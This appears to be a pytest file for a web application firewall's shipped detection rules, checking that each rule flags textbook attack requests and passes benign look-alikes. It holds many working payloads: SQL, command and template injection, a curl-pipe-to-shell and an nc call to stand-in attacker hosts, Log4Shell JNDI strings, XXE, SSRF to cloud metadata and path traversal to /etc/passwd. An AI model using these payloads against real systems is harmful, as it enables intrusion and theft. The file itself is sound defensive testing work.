"""The shipped rule set (signals/rules/default.json): it loads, every expression compiles, and
each rule catches a textbook payload and lets a look-alike pass.

The examples are textbook payloads (OWASP cheat sheets, PayloadsAllTheThings, vendor advisories)
and everyday requests, not lines of the benchmark corpus: the rules are measured on that corpus
(bench/detection) and must also hold on requests they were never tuned on.
"""

from __future__ import annotations

import importlib.util
import json
from dataclasses import dataclass, field
from pathlib import Path
from types import ModuleType

import hyperscan
import pytest

from signals.detection.engine import Engine
from signals.detection.loader import DEFAULT_RULES_PATH
from signals.detection.operators import MatchRegex
from signals.detection.request import HttpRequest, addresses
from signals.detection.rules import Rule, parse_rule_file

BROWSER_UA = (
    "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) "
    "Chrome/124.0.0.0 Safari/537.36"
)
BROWSER_HEADERS = {
    "host": "shop.example.com",
    "user-agent": BROWSER_UA,
    "accept": "text/html,application/xhtml+xml,application/xml;q=0.9,*/*;q=0.8",
    "accept-language": "en-GB,en;q=0.9",
    "accept-encoding": "gzip, deflate, br",
    "sec-ch-ua": '"Chromium";v="124", "Google Chrome";v="124", "Not-A.Brand";v="99"',
    "sec-fetch-site": "same-origin",
    "cookie": "sessionid=8f2a1c9e; csrftoken=Zx81KqP0; theme=dark",
}
# The starter rule ids stay: consoles may hold settings (enabled or not) under them.
STARTER_IDS = {
    "asm-942-100",
    "asm-941-100",
    "asm-930-100",
    "asm-934-100",
    "asm-932-100",
    "asm-944-100",
    "asm-913-100",
}


@dataclass(frozen=True)
class Req:
    """A request as a browser or an API client would send it."""

    uri: str = "/"
    method: str = "GET"
    body: str | None = None
    content_type: str = ""
    headers: dict[str, str] = field(default_factory=dict)

    def http(self) -> HttpRequest:
        headers = {**BROWSER_HEADERS, **self.headers}
        if self.content_type:
            headers["content-type"] = self.content_type
        return HttpRequest(method=self.method, uri=self.uri, headers=headers, body=self.body)


def form(uri: str, body: str) -> Req:
    return Req(uri, "POST", body, "application/x-www-form-urlencoded")


def as_json(uri: str, body: object) -> Req:
    return Req(uri, "POST", json.dumps(body), "application/json")


def multipart_upload(filename: str, content: str) -> Req:
    body = (
        "--b0undary\r\n"
        f'Content-Disposition: form-data; name="file"; filename="{filename}"\r\n'
        "Content-Type: application/octet-stream\r\n\r\n"
        f"{content}\r\n--b0undary--\r\n"
    )
    return Req("/upload", "POST", body, "multipart/form-data; boundary=b0undary")


# rule id -> (textbook attacks it must flag, benign look-alikes it must let pass)
EXAMPLES: dict[str, tuple[list[Req], list[Req]]] = {
    "asm-913-100": (
        [
            Req("/", headers={"user-agent": "sqlmap/1.7.2#stable (https://sqlmap.org)"}),
            Req(
                "/admin/", headers={"user-agent": "Mozilla/5.0 (compatible; Nuclei - Open-source)"}
            ),
            Req("/", headers={"referer": "http://a1b2c3.oastify.com/"}),
        ],
        [
            Req("/", headers={"user-agent": "python-requests/2.31.0"}),
            Req("/blog/burping-babies-guide"),
            Req("/search?q=hydrangea+care"),
        ],
    ),
    "asm-913-110": (
        [Req("/", headers={"acunetix-product": "WVS/14"})],
        [Req("/", headers={"x-request-id": "9d1c"})],
    ),
    "asm-921-110": (
        [
            Req("/redirect?lang=en%0d%0aSet-Cookie:%20session=attacker"),
            form("/", "x=%0d%0aGET+/admin+HTTP/1.1%0d%0aHost:+internal"),
        ],
        [
            form("/contact", "message=Hello%0D%0AThanks+for+the+quick+reply%2C%0D%0AAnna"),
            Req("/docs?q=how+to+set+a+location+header"),
        ],
    ),
    "asm-921-200": (
        [
            form("/login", "user=*)(uid=*))(|(uid=*&password=x"),
            form("/login", "user=admin)(|(objectClass=*)&password=x"),
        ],
        [
            Req("/search?q=tickets+(adults)+(children+under+12)"),
            Req("/search?q=%28a%2Bb%29*c"),
        ],
    ),
    "asm-930-100": (
        [
            Req("/download?file=....//....//....//etc/passwd"),
            Req("/download?file=..%252f..%252f..%252fetc%252fshadow"),
            Req("/.env"),
            Req("/.git/config"),
            Req("/view?page=/proc/self/environ"),
            Req("/backup.sql"),
            Req("/actuator/env"),
        ],
        [
            Req("/docs?next=../getting-started"),
            as_json("/api/tickets", {"body": "I edited /etc/hosts and the site still resolves"}),
            Req("/environment/policy"),
            Req("/img/logo.png"),
        ],
    ),
    "asm-930-110": (
        [multipart_upload("../../var/www/html/x.txt", "x")],
        [multipart_upload("holiday..photo.jpg", "x")],
    ),
    "asm-931-100": (
        [
            Req("/index.php?page=http://203.0.113.9/shell.txt?"),
            Req("/index.php?include=https://attacker.example/shell.txt"),
        ],
        [
            Req("/out?url=https://www.example.org/article"),
            Req("/share?link=https://news.example.com/a?b"),
        ],
    ),
    "asm-932-100": (
        [
            Req("/ping?host=127.0.0.1;cat%20/etc/passwd"),
            Req("/ping?host=8.8.8.8%7C%7Cwhoami"),
            Req("/lookup?domain=x.example%26%26curl%20http://198.51.100.7/x%7Csh"),
            Req("/dns?name=%24(id)"),
            Req("/run?cmd=powershell%20-enc%20SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQAKQA="),
            Req("/cgi-bin/status", headers={"user-agent": "() { :; }; /bin/bash -c id"}),
            Req("/x?f=/???/c?t%20/e??/p?sswd"),
            Req("/ping?host=127.0.0.1%0Asleep%205"),
        ],
        [
            Req("/search?q=Tom+%26+Jerry;+the+movie"),
            Req("/search?q=rock+%26+roll;+More+news"),
            Req("/search?q=salt+%26+pepper+%7C+spices"),
            as_json("/api/posts", {"body": "Run `make test`, then ship it.\nMore soon."}),
            Req("/search?q=C%2B%2B+%7C+Java"),
        ],
    ),
    "asm-932-180": (
        [
            multipart_upload("shell.php", "<? echo 1; ?>"),
            multipart_upload("cmd.jsp", "x"),
            multipart_upload(".htaccess", "AddType application/x-httpd-php .jpg"),
            multipart_upload("avatar.php.jpg", "x"),
        ],
        [
            multipart_upload("cv.pdf", "x"),
            multipart_upload("settings.json", "{}"),
            multipart_upload("photo.jpeg", "x"),
        ],
    ),
    "asm-933-100": (
        [
            Req("/page?x=%3C%3Fphp%20system(%24_GET%5B'c'%5D)%3B%20%3F%3E"),
            Req("/view?file=php://filter/convert.base64-encode/resource=index.php"),
            form("/cart", 'data=O:8:"Gadget_X":1:{s:4:"file";s:5:"x.php";}'),
            Req("/calc?x=shell_exec(%27id%27)"),
        ],
        [
            Req("/search?q=php+tutorial+for+beginners"),
            as_json("/api/images", {"src": "data:image/png;base64,iVBORw0KGgo="}),
            Req("/search?q=system+requirements"),
            as_json("/api/posts", {"body": "Works on any operating system (Windows, macOS)."}),
            Req("/search?q=gift+under+$5+(plus+tax)"),
        ],
    ),
    "asm-934-100": (
        [
            Req("/fetch?url=http://0x7f.0.0.1:6379/"),
            Req("/fetch?url=http://10.0.0.5/admin"),
            Req("/fetch?url=gopher://127.0.0.1:6379/_INFO"),
        ],
        [
            Req("/fetch?url=https://cdn.example.com/logo.png"),
            Req("/sso/start?redirect=http%3A%2F%2Flocalhost%3A3000%2Fauth%2Fcallback"),
        ],
    ),
    "asm-934-110": (
        [
            as_json("/api/webhooks", {"url": "http://169.254.169.254/latest/meta-data/iam/"}),
            Req("/preview?url=http://metadata.google.internal/computeMetadata/v1/"),
            Req("/fetch?host=host.docker.internal/"),
        ],
        [
            as_json("/api/webhooks", {"url": "https://hooks.example.com/services/T000/B000"}),
            Req("/search?q=Kubernetes:+rolling+updates"),
            Req("/downloads?mirror=ftp://ftp.example.org/pub/"),
        ],
    ),
    "asm-934-130": (
        [
            as_json("/api/eval", {"expr": "require('child_process').execSync('id')"}),
            Req("/calc?expr=process.mainModule.require('fs')"),
            Req("/q?x=while(true);"),
        ],
        [
            as_json("/api/posts", {"title": "Node.js: handling child processes safely"}),
            Req("/search?q=process+improvement"),
        ],
    ),
    "asm-934-131": (
        [
            as_json("/api/profile", {"__proto__": {"isAdmin": True}}),
            Req("/api/profile?constructor[prototype][isAdmin]=1"),
        ],
        [
            as_json("/api/profile", {"profile": {"isAdmin": False}}),
            as_json("/api/items", {"prototype_id": 4}),
        ],
    ),
    "asm-934-180": (
        [
            Req("/greet?name=%7B%7B7*7%7D%7D"),
            Req("/greet?name=%7B%7B''.__class__.__mro__%5B1%5D.__subclasses__()%7D%7D"),
            Req("/cgi?x=%40%7B%5Bsystem+%22id%22%5D%7D"),
        ],
        [
            Req("/greet?name=%7B%7B+user.name+%7D%7D"),
            Req("/search?q=price+%7Bmin%7D-%7Bmax%7D"),
        ],
    ),
    "asm-941-100": (
        [
            Req("/search?q=%3Cimg%20src%3Dx%20onerror%3Dalert(1)%3E"),
            Req("/search?q=%22%3E%3Csvg%2Fonload%3Dalert(1)%3E"),
        ],
        [Req("/search?q=5+%3C+6+and+7+%3E+3"), Req("/search?q=I+%3C3+cats")],
    ),
    "asm-941-110": (
        [
            Req("/search?q=%3Cscript%3Ealert(document.cookie)%3C%2Fscript%3E"),
            as_json("/api/comments", {"text": "<a href='javascript:alert(1)'>x</a>"}),
            as_json("/api/comments", {"text": 'x" onmouseover="alert(1)'}),
        ],
        [
            as_json("/api/cms/blocks", {"html": "<p>Hello <strong>world</strong>!</p>"}),
            Req("/search?q=JavaScript:+The+Good+Parts"),
            as_json("/api/forms", {"note": "please confirm (by Friday)"}),
        ],
    ),
    "asm-942-100": (
        [Req("/item?id=1'%20OR%20'1'%3D'1"), form("/login", "user=admin'--&password=x")],
        [Req("/search?q=O'Reilly+books"), Req("/search?q=levi's+501")],
    ),
    "asm-942-110": (
        [
            Req("/item?id=1%20UNION%20SELECT%20username,password%20FROM%20users--"),
            Req("/item?id=1%20AND%20SLEEP(5)"),
            Req("/item?id=1;%20WAITFOR%20DELAY%20'0:0:5'"),
            Req("/item?id=1%20AND%20extractvalue(1,concat(0x7e,version()))"),
        ],
        [
            Req("/search?q=union+station+select+seats"),
            Req("/search?q=select+a+size+from+the+menu"),
            Req("/search?q=turn+left+(north)+at+the+station"),
            as_json("/graphql", {"query": "query { user(id: 4) { name } }"}),
        ],
    ),
    "asm-942-290": (
        [
            as_json("/api/login", {"username": "admin", "password": {"$ne": None}}),
            Req("/api/users?password__startswith=a"),
        ],
        [
            as_json("/api/orders", {"price": {"currency": "EUR", "amount": 10}}),
            Req("/api/users?name__icontains=ann"),
        ],
    ),
    "asm-942-291": (
        [
            Req("/api/users?username[$ne]=admin&password[$ne]=x"),
            as_json("/api/search", {"filter": '{"$where": "sleep(5000)"}'}),
        ],
        [
            Req("/api/articles?filter[status]=published&page[size]=20"),
            Req("/api/prices?currency=$USD"),
        ],
    ),
    "asm-943-100": (
        [Req("/page?x=%3Cscript%3Edocument.cookie%3D%22sid%3D1%22%3C%2Fscript%3E")],
        [Req("/help?q=how+do+cookies+work")],
    ),
    "asm-943-110": (
        [
            Req("/login?PHPSESSID=attacker1234", headers={"referer": "https://evil.example/"}),
            Req("/app;jsessionid=0123456789?x=1", headers={"referer": "http://x.example/"}),
        ],
        [
            Req("/search?session=summer", headers={"referer": "https://shop.example.com/"}),
            Req("/login?PHPSESSID=abc"),
        ],
    ),
    "asm-944-100": (
        [
            Req("/", headers={"user-agent": "${jndi:ldap://attacker.example/a}"}),
            Req("/", headers={"x-api-version": "${${lower:j}ndi:rmi://x.example/a}"}),
            form("/struts", "x=%25%7B(%23_memberAccess%3D%40ognl.OgnlContext)%7D"),
            as_json("/api/convert", {"@type": "com.sun.rowset.JdbcRowSetImpl"}),
        ],
        [
            as_json("/api/questions", {"body": "Which Java runtime should I install for Gradle?"}),
            as_json("/api/tickets", {"body": "java.lang.NullPointerException at Cart.total"}),
        ],
    ),
    "asm-944-111": (
        [
            as_json("/api/convert", {"java.lang.Runtime": "getRuntime"}),
            form("/x", "org.apache.commons.collections.functors.InvokerTransformer=1"),
        ],
        [
            as_json("/api/settings", {"java_version": "21", "runtime": "temurin"}),
            as_json("/api/settings", {"javascript": True}),
        ],
    ),
    "asm-xxe-100": (
        [
            Req(
                "/api/import",
                "POST",
                '<?xml version="1.0"?><!DOCTYPE r [<!ENTITY x SYSTEM "file:///etc/passwd">]>'
                "<r>&x;</r>",
                "application/xml",
            ),
            Req(
                "/soap",
                "POST",
                '<!DOCTYPE x [<!ENTITY % r SYSTEM "http://attacker.example/e.dtd"> %r;]><x/>',
                "text/xml",
            ),
        ],
        [
            Req(
                "/api/import",
                "POST",
                '<?xml version="1.0"?><order><id>42</id></order>',
                "application/xml",
            ),
            Req(
                "/api/import",
                "POST",
                '<?xml version="1.0"?><!DOCTYPE html><p>entity names are fun</p>',
                "application/xml",
            ),
        ],
    ),
}

# Representative attacks of every corpus category (README of the benchmark corpus).
ATTACKS: dict[str, Req] = {
    "sql_injection": form("/login", "user=admin'--&password=x"),
    "sql_injection (time-based)": Req("/item?id=1%20AND%20SLEEP(5)"),
    "xss": Req("/search?q=%22%3E%3Csvg%2Fonload%3Dalert(1)%3E"),
    "lfi": Req("/static/..%2f..%2f..%2f..%2fetc%2fshadow"),
    "rfi": Req("/index.php?page=ftp://198.51.100.4/x.txt?"),
    "command_injection": as_json("/api/dns", {"domain": "example.com | nc attacker.example 4444"}),
    "ssrf": Req("/preview?url=http://metadata.google.internal/computeMetadata/v1/"),
    "php_code_injection": Req("/view?file=php://filter/convert.base64-encode/resource=index.php"),
    "java_code_injection": form("/struts", "x=%25%7B(%23_memberAccess%3D%40ognl.OgnlContext)%7D"),
    "js_code_injection": Req("/calc?expr=process.mainModule.require('child_process')"),
    "log4shell": as_json("/api/login", {"username": "${${lower:j}ndi:ldap://x.example/a}"}),
    "nosql_injection": as_json("/api/login", {"user": "admin", "pass": {"$gt": ""}}),
    "ssti": Req("/hello?name=%7B%7Bconfig.__class__.__init__.__globals__%7D%7D"),
    "xxe": Req(
        "/soap",
        "POST",
        '<!DOCTYPE x [<!ENTITY % r SYSTEM "http://attacker.example/e.dtd"> %r;]><x/>',
        "text/xml",
    ),
    "security_scanner": Req(
        "/", headers={"user-agent": "Mozilla/5.00 (Nikto/2.5.0) (Test:000001)"}
    ),
    "protocol_attack": form("/", "x=%0aGET+/admin+HTTP/1.1"),
    "perl_code_injection": Req("/cgi?x=%40%7B%5Bsystem+%22id%22%5D%7D"),
    "ruby_code_injection": Req("/run?x=Kernel.exec(%22id%22)"),
    "ldap_injection": form("/login", "user=admin)(%26)&password=x"),
    "session_fixation": Req(
        "/login?jsessionid=0123456789", headers={"referer": "http://x.example/"}
    ),
    "orm_injection": Req("/api/users?password__startswith=a"),
    "unrestricted_file_upload": multipart_upload("cmd.jsp", "<% out.println(1); %>"),
    "sensitive_file_probe": Req("/.git/config"),
    "shellshock": Req("/cgi-bin/status", headers={"user-agent": "() { :; }; /bin/bash -c id"}),
}

# Everyday traffic that must not raise a single signal.
EVERYDAY: dict[str, Req] = {
    "home page": Req("/"),
    "product page with utm": Req("/p/levis-501?utm_source=newsletter&utm_medium=email&gclid=Cj0K"),
    "search with apostrophe": Req("/search?q=men's+running+shoes&page=2"),
    "search with sql words": Req("/search?q=select+a+size+or+drop+us+a+line"),
    "search with symbols": Req("/search?q=C%2B%2B+%26+C%23+50%25+off"),
    "i18n": Req("/search?q=%E6%9D%B1%E4%BA%AC+caf%C3%A9+%D0%9C%D0%BE%D1%81%D0%BA%D0%B2%D0%B0"),
    "login form": form("/login", "username=sean.obrien&password=p%40ss'w0rd%22%3B%23%24"),
    "json order": as_json(
        "/api/orders",
        {"items": [{"sku": "A-12", "qty": 2}], "note": "Leave it at the neighbour's door"},
    ),
    "oauth authorize": Req(
        "/oauth/authorize?response_type=code&client_id=abc&redirect_uri="
        "https%3A%2F%2Fapp.example.com%2Fcallback&state=xyz&scope=openid%20email"
    ),
    "jwt bearer": Req(
        "/api/me",
        headers={
            "authorization": "Bearer eyJhbGciOiJIUzI1NiIsInR5cCI6IkpXVCJ9.eyJzdWIiOiIxMjM0NTY3ODkw"
            "In0.dozjgNryP4J3jVmNHl0w5N_XgL0n3I9PlFUP0THsR8U"
        },
    ),
    "graphql": as_json(
        "/graphql",
        {"query": "query { viewer { id name orders(first: 5) { id total } } }", "variables": {}},
    ),
    "markdown post": as_json(
        "/api/posts",
        {"body": "## Release notes\n\n- faster search\n- **new** filters\n\nThanks all!"},
    ),
    "csv upload": multipart_upload("contacts.csv", 'name,email\n"Ann",ann@example.com'),
    "spreadsheet formula": as_json("/api/cells/B2", {"value": "=SUM(A1:A10)/COUNT(A1:A10)"}),
    "health probe": Req("/healthz", headers={"user-agent": "kube-probe/1.29"}),
    "markdown with a code block": as_json(
        "/api/posts",
        {
            "body": "Install it:\n\n```bash\nnpm install -g pnpm\n"
            "git clone https://github.com/example/app.git\ncd app && pnpm install\n```\n"
            "Then run `pnpm dev`."
        },
    ),
    "analytics hit": Req(
        "/g/collect?v=2&tid=G-ABC123&cid=555.666&en=page_view"
        "&dl=https%3A%2F%2Fshop.example.com%2Fcart%3Fstep%3D2&dt=Cart%20%E2%80%93%20Shop"
    ),
    "presigned download": Req(
        "/files/report.pdf?X-Amz-Algorithm=AWS4-HMAC-SHA256"
        "&X-Amz-Credential=AKIAEXAMPLE%2F20240514%2Fus-east-1%2Fs3%2Faws4_request"
        "&X-Amz-Signature=ab12cd34"
    ),
    "tool names in a referer and a client library": Req(
        "/articles/physics",
        headers={
            "referer": "https://en.wikipedia.org/wiki/Atomic_nuclei",
            "user-agent": "python-httpx/0.27.0",
        },
    ),
    "search operators": Req("/search?q=%22exact+phrase%22+-exclude+site%3Aexample.com"),
    "webhook": as_json(
        "/hooks/payments",
        {"id": "evt_1", "type": "invoice.paid", "data": {"object": {"amount_paid": 1999}}},
    ),
}


BUILD_SCRIPT = Path(__file__).resolve().parents[2] / "scripts" / "build_default_rules.py"


def build_script() -> ModuleType:
    spec = importlib.util.spec_from_file_location("build_default_rules", BUILD_SCRIPT)
    assert spec is not None
    assert spec.loader is not None
    module = importlib.util.module_from_spec(spec)
    spec.loader.exec_module(module)
    return module


def test_the_shipped_file_is_what_the_build_script_writes() -> None:
    # The script is the source of truth: edit it and regenerate, never the JSON by hand.
    assert build_script().main(["--check"]) == 0


def test_the_check_fails_on_a_file_that_drifted(tmp_path: Path) -> None:
    script = build_script()
    output = tmp_path / "default.json"
    assert script.main(["--output", str(output)]) == 0
    assert script.main(["--check", "--output", str(output)]) == 0
    document = json.loads(output.read_text())
    document["rules"][0]["name"] = "edited by hand"
    output.write_text(json.dumps(document, indent=1) + "\n")
    assert script.main(["--check", "--output", str(output)]) == 1


def test_the_build_is_deterministic_and_sorted() -> None:
    script = build_script()
    assert script.render() == script.render()
    ids = [rule["id"] for rule in json.loads(script.render())["rules"]]
    assert ids == sorted(ids)


@pytest.fixture(scope="module")
def shipped() -> list[Rule]:
    return parse_rule_file(json.loads(DEFAULT_RULES_PATH.read_text()))


@pytest.fixture(scope="module")
def engine(shipped: list[Rule]) -> Engine:
    # Compiling the whole set takes seconds: once per module.
    return Engine(shipped, budget_us=2_000_000)


def flagged_by(engine: Engine, request: Req) -> set[str]:
    result = engine.run(addresses(request.http()))
    assert not result.timed_out
    return {match.rule.id for match in result.matches}


def test_the_shipped_file_loads_with_unique_ids_and_keeps_the_starter_ids(
    shipped: list[Rule],
) -> None:
    ids = [rule.id for rule in shipped]
    assert len(ids) == len(set(ids))
    assert set(ids) >= STARTER_IDS


def test_every_rule_is_described_for_the_console(shipped: list[Rule]) -> None:
    for rule in shipped:
        assert rule.name
        assert rule.tags["category"] == "attack_attempt", rule.id
        assert rule.tags["type"], rule.id
        assert rule.tags["cwe"].isdigit(), rule.id
        assert rule.tags["capec"].startswith("1000/"), rule.id
        assert rule.tags["confidence"] in {"0", "1"}, rule.id


def test_every_expression_compiles_exactly_in_hyperscan(shipped: list[Rule]) -> None:
    # The engine falls back to an approximate (prefilter) pattern, or to RE2 alone, for what
    # Hyperscan rejects; both are slower, so the shipped rules must not need either.
    for rule in shipped:
        for condition in rule.conditions:
            if not isinstance(condition.operator, MatchRegex):
                continue
            flags = (
                condition.operator.hyperscan_flags
                | hyperscan.HS_FLAG_SINGLEMATCH
                | hyperscan.HS_FLAG_ALLOWEMPTY
            )
            database = hyperscan.Database()
            database.compile(
                expressions=[condition.operator.pattern.encode()],
                ids=[0],
                elements=1,
                flags=[flags],
            )


def test_the_engine_scans_every_expression_in_its_databases(engine: Engine) -> None:
    assert all(not prefilter.unscanned for prefilter in engine._prefilters.values())


def test_every_rule_has_examples() -> None:
    shipped_ids = {rule.id for rule in parse_rule_file(json.loads(DEFAULT_RULES_PATH.read_text()))}
    assert set(EXAMPLES) == shipped_ids


@pytest.mark.parametrize(
    ("rule_id", "attack"), [(k, attack) for k, v in EXAMPLES.items() for attack in v[0]]
)
def test_the_rule_flags_its_textbook_payloads(engine: Engine, rule_id: str, attack: Req) -> None:
    assert rule_id in flagged_by(engine, attack)


@pytest.mark.parametrize(
    ("rule_id", "lookalike"), [(k, benign) for k, v in EXAMPLES.items() for benign in v[1]]
)
def test_the_rule_lets_its_lookalikes_pass(engine: Engine, rule_id: str, lookalike: Req) -> None:
    assert rule_id not in flagged_by(engine, lookalike)


@pytest.mark.parametrize(("category", "attack"), list(ATTACKS.items()))
def test_every_category_has_a_rule_that_flags_it(
    engine: Engine, category: str, attack: Req
) -> None:
    assert flagged_by(engine, attack), category


@pytest.mark.parametrize(("what", "request_"), list(EVERYDAY.items()))
def test_everyday_requests_raise_no_signal(engine: Engine, what: str, request_: Req) -> None:
    assert flagged_by(engine, request_) == set(), what
